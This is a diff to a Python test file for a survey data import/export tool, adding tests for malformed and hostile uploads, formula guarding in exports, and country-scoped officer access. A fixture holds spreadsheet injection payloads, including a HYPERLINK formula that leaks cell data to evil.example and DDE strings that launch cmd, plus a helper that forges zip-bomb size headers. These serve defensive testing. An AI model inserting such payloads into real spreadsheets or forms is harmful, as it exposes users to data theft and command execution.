@@ -14,6 +14,8 @@ import contextlib
 import csv
 import datetime
 import io
+import json
+import struct
 import zipfile
 from decimal import Decimal
 
@@ -31,7 +33,7 @@ from liaison.core.models import TaskProgress
 from liaison.registry.models import Member
 from liaison.surveys import exchange, ready, services, submissions
 from liaison.surveys.models import Answer, Submission, Wave
-from tests.factories import user_with_role
+from tests.factories import MemberFactory, officer_in, user_with_role
 
 SURVEY = [
     ["type", "name", "label", "required", "constraint", "constraint_message", "calculation"],
@@ -225,7 +227,8 @@ def officer(db):
 
 
 def xlsx(sheets):
-    """A workbook of ``(title, headers, rows as dicts)``, blank cells left empty."""
+    """A workbook of ``(title, headers, rows as dicts)``, blank cells left empty, text cells as
+    text (also those starting with "=", which openpyxl would otherwise write as formulas)."""
     wb = Workbook()
     wb.remove(wb.active)
     for title, headers, rows in sheets:
@@ -233,6 +236,9 @@ def xlsx(sheets):
         sheet.append(headers)
         for row in rows:
             sheet.append([row.get(h) for h in headers])
+            for cell in sheet[sheet.max_row]:
+                if isinstance(cell.value, str):
+                    cell.data_type = "s"
     out = io.BytesIO()
     wb.save(out)
     return out.getvalue()
@@ -556,10 +562,10 @@ def mapping_export():
     return headers, row, content
 
 
-def test_a_kobo_export_of_the_ready_diaspora_mapping_form_is_imported(mapping_wave):
+def test_a_kobo_export_of_the_ready_diaspora_mapping_form_is_imported(mapping_wave, officer):
     headers, row, content = mapping_export()
 
-    report = run(mapping_wave, content, "diaspora_mapping.xlsx")
+    report = run(mapping_wave, content, "diaspora_mapping.xlsx", officer)
 
     assert report.problems == [], report.problems
     stored = Submission.objects.get()
@@ -597,7 +603,9 @@ def test_a_kobo_export_of_the_ready_diaspora_mapping_form_is_imported(mapping_wa
         "meta/instanceID": f"uuid:{UUID2}",
         "_uuid": UUID2,
     }
-    second = run(mapping_wave, xlsx([("Diaspora mapping survey", headers, [declined])]), "b.xlsx")
+    second = run(
+        mapping_wave, xlsx([("Diaspora mapping survey", headers, [declined])]), "b.xlsx", officer
+    )
     assert second.problems == [] and second.created == 1 and second.registered == 0
     assert Member.objects.count() == 1
     assert Submission.objects.get(instance_id=f"uuid:{UUID2}").member is None
@@ -778,7 +786,7 @@ def test_an_export_imported_into_a_fresh_wave_gives_the_same_answers(
         assert after.submitted_at == before.submitted_at
     event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
     assert event.reason == "Analysis of the 2025 household round"
-    assert event.changes == {"format": fmt, "submissions": 2}
+    assert event.changes == {"format": fmt, "submissions": 2, "outside_scope": 0}
 
 
 def test_the_kobo_xlsx_export_has_kobos_columns_and_a_sheet_per_repeat(client, officer, wave):
@@ -1237,3 +1245,402 @@ def test_the_import_page_offers_the_upload_and_the_three_downloads(client, offic
     assert 'type="file"' in page and "children" in page
     for fmt in ("xlsx", "csv", "zip"):
         assert f"/surveys/waves/{wave.pk}/export.{fmt}" in page
+
+
+# --- files built to hurt -------------------------------------------------------------------------
+
+
+def xlsx_with(content, find, replace):
+    """An XLSX workbook whose XML has ``find`` replaced by ``replace`` in every part: what a
+    hand-made file can hold that openpyxl would not write."""
+    source = zipfile.ZipFile(io.BytesIO(content))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for info in source.infolist():
+            archive.writestr(info, source.read(info).replace(find, replace))
+    return out.getvalue()
+
+
+def test_an_answer_of_thousands_of_digits_is_a_problem_of_its_cell_not_a_crash(wave):
+    huge = dict(JOSE, **{"person/age": "9" * 5000})
+
+    report = run(wave, kobo_xlsx(main=(AWA, huge)), "export.xlsx")
+
+    assert [(p.row, p.column, p.question) for p in report.problems] == [(3, "person/age", "age")]
+    assert report.problems[0].message == "“" + "9" * 39 + "…” is too large."
+    assert_nothing_stored()
+
+
+def test_a_number_cell_of_thousands_of_digits_makes_the_workbook_unreadable_not_a_crash(wave):
+    marked = dict(JOSE, **{"person/age": 31337})  # a number cell, swapped for a huge one
+    content = xlsx_with(
+        kobo_xlsx(main=(AWA, marked)), b"<v>31337</v>", b"<v>" + b"9" * 5000 + b"</v>"
+    )
+
+    report = run(wave, content, "export.xlsx")
+
+    assert messages_of(report) == [
+        "Row 3 of “Household test” cannot be read: it holds a cell that no export writes (a "
+        "number thousands of digits long, a text of more than 131,072 characters)."
+    ]
+    assert report.problems[0].sheet == "export.xlsx"
+    assert_nothing_stored()
+
+
+def test_a_csv_field_beyond_the_csv_modules_limit_is_a_problem_not_a_crash(wave):
+    main, _children = odk_rows()
+    main[1]["person-full_name"] = "x" * 200_000
+
+    report = run(wave, text_csv(ODK_MAIN, main), "household_test.csv")
+
+    assert messages_of(report)[0].startswith("Row 3 of “household_test.csv” cannot be read")
+    assert_nothing_stored()
+
+
+@pytest.mark.parametrize("fmt", ["csv", "zip"])
+def test_a_nul_character_in_any_cell_is_a_problem_of_its_sheet_row_and_column(wave, fmt):
+    main, children = odk_rows()
+    # Far beyond the first 4,096 characters, which the check for binary files reads.
+    main[0]["person-full_name"] = "Awa " + "a" * 5000
+    main[1]["person-full_name"] = "Jose\x00Reyes"
+    children[1]["child_name"] = "Fa\x00tou"
+    content = text_csv(ODK_MAIN, main) if fmt == "csv" else odk_zip(main=main, children=children)
+
+    report = run(wave, content, f"household_test.{fmt}")
+
+    found = [(p.sheet, p.row, p.column) for p in report.problems if "NUL" in p.message]
+    expected = [("household_test.csv", 3, "person-full_name")]
+    if fmt == "zip":
+        expected.append(("household_test-children.csv", 3, "child_name"))
+    assert found == expected
+    # The report is kept as JSON in PostgreSQL, which refuses NUL characters there too.
+    assert "\\u0000" not in json.dumps(report.as_dict())
+    assert_nothing_stored()
+
+
+def test_a_nul_character_in_a_header_is_no_export(wave):
+    main, children = odk_rows()
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("household_test.csv", text_csv(ODK_MAIN, main))
+        archive.writestr("household_test-children.csv", text_csv(["child\x00name"], children))
+
+    report = run(wave, out.getvalue(), "household_test.zip")
+
+    assert [(p.sheet, p.message) for p in report.problems] == [
+        ("household_test-children.csv", "The file is not a CSV, XLSX or zip file.")
+    ]
+    assert_nothing_stored()
+
+
+def declared_larger(content, member, size):
+    """A zip whose ``member`` says it unpacks to ``size`` bytes, in its local header and in the
+    central directory (as a real bomb of that size would: zipfile never unpacks more than a
+    member declares)."""
+    data = bytearray(content)
+    info = zipfile.ZipFile(io.BytesIO(content)).getinfo(member)
+    struct.pack_into("<I", data, info.header_offset + 22, size)
+    name = member.encode()
+    start = data.find(b"PK\x01\x02")
+    while start != -1:
+        length = struct.unpack_from("<H", data, start + 28)[0]
+        if bytes(data[start + 46 : start + 46 + length]) == name:
+            struct.pack_into("<I", data, start + 24, size)
+            break
+        start = data.find(b"PK\x01\x02", start + 4)
+    assert zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(member).file_size == size
+    return bytes(data)
+
+
+def test_an_xlsx_that_would_unpack_beyond_the_limit_is_refused_before_it_is_opened(wave):
+    out = io.BytesIO(kobo_xlsx())
+    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("xl/media/filler.bin", b"\0" * (1 << 20))
+    content = declared_larger(
+        out.getvalue(), "xl/media/filler.bin", exchange.layout.MAX_UNZIPPED + 1
+    )
+
+    report = run(wave, content, "export.xlsx")
+
+    assert messages_of(report) == [
+        "The file unpacks to more than 1024 MB: it is too large to read, or not a real export. "
+        "Split it into smaller files."
+    ]
+    assert_nothing_stored()
+
+
+def test_a_small_number_cell_is_read_without_an_exponent(wave):
+    # Number cells, as Kobo writes the parts of a geopoint: 0.00001 is 1e-05 to Python.
+    near_null = dict(AWA, place=None, _place_latitude=0.00001, _place_longitude=-17.4441)
+
+    report = run(wave, kobo_xlsx(main=(near_null, JOSE)), "export.xlsx")
+
+    assert report.problems == [], report.problems
+    awa = Submission.objects.get(instance_id=f"uuid:{UUID1}")
+    assert awa.data["place"] == "0.00001 -17.4441 12 5"
+
+
+# --- answers that look like formulas -------------------------------------------------------------
+
+TRAPS = {
+    "awa": '=HYPERLINK("http://evil.example/?"&A2,"x")',
+    "jose": "'=already quoted by its writer",
+    "moussa": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "fatou": "-2+3+cmd|' /C calc'!A0",
+}
+
+
+def trapped_wave(wave):
+    main = (
+        dict(AWA, **{"person/full_name": TRAPS["awa"]}),
+        dict(JOSE, **{"person/full_name": TRAPS["jose"]}),
+    )
+    children = (
+        dict(CHILDREN[0], **{"children/child_name": TRAPS["moussa"]}),
+        dict(CHILDREN[1], **{"children/child_name": TRAPS["fatou"]}),
+    )
+    report = run(wave, kobo_xlsx(main=main, children=children), "export.xlsx")
+    assert report.problems == [] and report.created == 2
+    awa = Submission.objects.get(instance_id=f"uuid:{UUID1}")
+    assert awa.data["full_name"] == TRAPS["awa"]
+    assert [c["child_name"] for c in awa.data["children"]] == [TRAPS["moussa"], TRAPS["fatou"]]
+
+
+def test_the_xlsx_export_writes_answers_that_look_like_formulas_as_text(client, officer, wave):
+    trapped_wave(wave)
+    client.force_login(officer)
+
+    content = exported(client, wave, "xlsx").content
+
+    parts = zipfile.ZipFile(io.BytesIO(content))
+    sheets = [n for n in parts.namelist() if n.startswith("xl/worksheets/")]
+    xml = b"".join(parts.read(n) for n in sheets)
+    assert b"<f>" not in xml and b"HYPERLINK(" in xml  # there, but not as a formula
+    book = load_workbook(io.BytesIO(content))
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    trapped = [c for c in cells if c.value in TRAPS.values()]
+    assert len(trapped) == 4 and {c.data_type for c in trapped} == {"s"}
+
+
+def test_a_control_character_in_an_answer_does_not_stop_the_xlsx_export(client, officer, wave):
+    main, _children = odk_rows()
+    main[1]["person-full_name"] = "Jose\x01Reyes"  # a CSV may hold it; XML may not
+    assert run(wave, text_csv(ODK_MAIN, main), "household_test.csv").created == 2
+    client.force_login(officer)
+
+    book = load_workbook(io.BytesIO(exported(client, wave, "xlsx").content), read_only=True)
+
+    names = [row[0] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)]
+    assert names == ["Awa Diallo", "Jose\ufffdReyes"]
+
+
+def test_the_csv_exports_guard_formulas_with_an_apostrophe_and_numbers_are_left_alone(
+    client, officer, wave
+):
+    trapped_wave(wave)
+    client.force_login(officer)
+
+    kobo = exported(client, wave, "csv").content.decode()
+    odk = zipfile.ZipFile(io.BytesIO(exported(client, wave, "zip").content))
+    odk_main = odk.read("household_test.csv").decode()
+    odk_children = odk.read("household_test-children.csv").decode()
+
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A2,""x"")"' in kobo
+    assert "\"''=already quoted by its writer\"" in kobo
+    assert "'=HYPERLINK(" in odk_main and "''=already quoted" in odk_main
+    assert "'@SUM(1+1)" in odk_children and "'-2+3+cmd" in odk_children
+    # A negative longitude is a number, not a formula: written as it is.
+    assert ",14.6937,-17.4441,12,5," in odk_main
+    assert '"14.6937 -17.4441 12 5"' in kobo
+
+
+@pytest.mark.parametrize(("fmt", "name"), [("xlsx", "a.xlsx"), ("csv", "a.csv"), ("zip", "a.zip")])
+def test_answers_that_look_like_formulas_come_back_unchanged_from_each_export(
+    client, officer, wave, version, fmt, name
+):
+    trapped_wave(wave)
+    client.force_login(officer)
+    response = exported(client, wave, fmt)
+
+    fresh = new_wave(version, f"copy {fmt}")
+    report = run(fresh, response.content, name)
+
+    assert report.problems == [] and report.created == 2
+    for instance_id in (f"uuid:{UUID1}", f"uuid:{UUID2}"):
+        before = Submission.objects.get(wave=wave, instance_id=instance_id).data
+        after = Submission.objects.get(wave=fresh, instance_id=instance_id).data
+        if fmt == "csv":  # the main table only
+            before = {k: v for k, v in before.items() if k != "children"}
+        assert after == before
+
+
+def test_a_guard_is_taken_off_only_where_an_export_would_have_put_one():
+    for text in [
+        "=1+1",
+        "'=1+1",
+        "''@x",
+        "'plain",
+        "plain'",
+        "-7",
+        "'-7",
+        "-2+3+cmd|x",
+        "+33 6 12 34 56 78",
+        "'",
+        "",
+    ]:
+        assert exchange.layout.unguard(exchange.layout.guard(text)) == text
+    assert exchange.layout.guard("-17.4441") == "-17.4441"
+    assert exchange.layout.guard("=A1") == "'=A1"
+    assert exchange.layout.unguard("'plain") == "'plain"  # not a guard: kept
+
+
+# --- officers of some countries only -------------------------------------------------------------
+
+
+def mapping_rows(*people):
+    """The mapping form's export holding ``people``: (uuid, given name, country, consent)."""
+    headers, row, _content = mapping_export()
+    rows = []
+    for number, (uuid, given, country, consent) in enumerate(people, start=1):
+        rows.append(
+            dict(
+                row,
+                **{
+                    "about_you/given_name": given,
+                    "about_you/email": f"{given.lower()}@example.org",
+                    "residence/residence_country": country,
+                    "consent/consent_register": consent,
+                    "meta/instanceID": f"uuid:{uuid}",
+                    "_uuid": uuid,
+                    "_index": number,
+                },
+            )
+        )
+    return xlsx([("Diaspora mapping survey", headers, rows)])
+
+
+UUID3 = "aaaaaaaa-0000-4000-8000-000000000003"
+UUID4 = "aaaaaaaa-0000-4000-8000-000000000004"
+
+
+def test_an_officer_for_germany_may_not_register_a_respondent_living_in_france(mapping_wave):
+    content = mapping_rows((UUID1, "Lena", "DE", "yes"), (UUID2, "Amina", "FR", "yes"))
+
+    report = run(mapping_wave, content, "mapping.xlsx", officer_in("DE"))
+
+    assert [(p.sheet, p.row, p.column, p.question) for p in report.problems] == [
+        ("Diaspora mapping survey", 3, "residence/residence_country", "residence_country")
+    ]
+    assert "lives in FR, outside the countries you work for" in report.problems[0].message
+    assert report.created == 0
+    assert_nothing_stored()
+    assert not Member.objects.exists()
+
+
+def test_an_officer_for_germany_imports_germans_and_answers_without_consent(mapping_wave):
+    content = mapping_rows((UUID1, "Lena", "DE", "yes"), (UUID2, "Amina", "FR", "no"))
+
+    report = run(mapping_wave, content, "mapping.xlsx", officer_in("DE"))
+
+    assert report.problems == [] and (report.created, report.registered) == (2, 1)
+    assert list(Member.objects.values_list("given_name", "country_of_residence")) == [
+        ("Lena", "DE")
+    ]
+
+
+def test_an_officer_for_everywhere_registers_respondents_of_any_country(mapping_wave, officer):
+    content = mapping_rows((UUID1, "Lena", "DE", "yes"), (UUID2, "Amina", "FR", "yes"))
+
+    report = run(mapping_wave, content, "mapping.xlsx", officer)
+
+    assert report.problems == [] and report.registered == 2
+
+
+def test_an_import_without_a_known_officer_registers_no_one(mapping_wave):
+    # The task runs as the officer who queued it; one whose account is gone is no one's scope.
+    report = run(mapping_wave, mapping_rows((UUID1, "Lena", "DE", "yes")), "mapping.xlsx")
+
+    assert "outside the countries you work for" in messages_of(report)[0]
+    assert_nothing_stored()
+
+
+def scoped_exports_wave(mapping_wave, officer):
+    """Lena (DE) and Amina (FR) imported; Karim, linked to a member in DE, and Nobody, of no
+    known country, answered without the country question (a form of an older version)."""
+    content = mapping_rows((UUID1, "Lena", "DE", "yes"), (UUID2, "Amina", "FR", "no"))
+    assert run(mapping_wave, content, "mapping.xlsx", officer).created == 2
+    for uuid, given, member in (
+        (UUID3, "Karim", MemberFactory(given_name="Karim", country_of_residence="DE")),
+        (UUID4, "Nobody", None),
+    ):
+        Submission.objects.create(
+            wave=mapping_wave,
+            version=mapping_wave.version,
+            instance_id=f"uuid:{uuid}",
+            status=Submission.Status.COMPLETE,
+            source=Submission.Source.WEB,
+            data={"given_name": given},
+            member=member,
+            submitted_at=timezone.now(),
+        )
+
+
+def exported_names(content):
+    book = load_workbook(io.BytesIO(content), read_only=True)
+    rows = list(book.worksheets[0].iter_rows(values_only=True))
+    column = rows[0].index("about_you/given_name")
+    return sorted(r[column] for r in rows[1:])
+
+
+def test_an_officer_for_germany_exports_only_the_respondents_living_in_germany(
+    client, mapping_wave, officer
+):
+    scoped_exports_wave(mapping_wave, officer)
+    german = officer_in("DE")
+    client.force_login(german)
+
+    page = client.get(f"/surveys/waves/{mapping_wave.pk}/export.xlsx").content.decode()
+    response = exported(client, mapping_wave, "xlsx")
+
+    assert "2 complete submissions will be exported." in page
+    assert "2 other complete submissions are left out" in page
+    assert exported_names(response.content) == ["Karim", "Lena"]
+    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
+    assert (event.actor_id, event.changes["submissions"], event.changes["outside_scope"]) == (
+        german.pk,
+        2,
+        2,
+    )
+    for fmt in ("csv", "zip"):
+        text = exported(client, mapping_wave, fmt).content
+        if fmt == "zip":
+            text = zipfile.ZipFile(io.BytesIO(text)).read("diaspora_mapping.csv")
+        assert b"Lena" in text and b"Amina" not in text and b"Nobody" not in text
+
+
+def test_an_officer_for_everywhere_exports_every_respondent(client, mapping_wave, officer):
+    scoped_exports_wave(mapping_wave, officer)
+    client.force_login(officer)
+
+    page = client.get(f"/surveys/waves/{mapping_wave.pk}/export.xlsx").content.decode()
+    response = exported(client, mapping_wave, "xlsx")
+
+    assert "4 complete submissions will be exported." in page and "left out" not in page
+    assert exported_names(response.content) == ["Amina", "Karim", "Lena", "Nobody"]
+
+
+# --- refused after storing -----------------------------------------------------------------------
+
+
+def test_an_import_the_registry_refuses_after_storing_reports_nothing_created(
+    mapping_wave, officer
+):
+    content = mapping_rows((UUID1, "Lena", "DE", "yes"), (UUID2, "<b>Karim</b>", "DE", "yes"))
+
+    report = run(mapping_wave, content, "mapping.xlsx", officer)
+
+    assert report.problems and report.problems[0].row == 3
+    assert (report.created, report.registered) == (0, 0)
+    assert (report.as_dict()["created"], report.as_dict()["registered"]) == (0, 0)
+    assert_nothing_stored()
+    assert not Member.objects.exists()
